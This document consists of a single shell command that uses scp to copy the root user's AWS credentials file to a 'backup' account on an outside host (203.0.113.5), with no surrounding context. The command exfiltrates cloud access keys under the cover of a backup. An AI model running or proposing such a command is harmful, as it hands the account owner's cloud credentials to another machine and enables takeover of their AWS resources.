scp /root/.aws/credentials backup@203.0.113.5:/tmp/
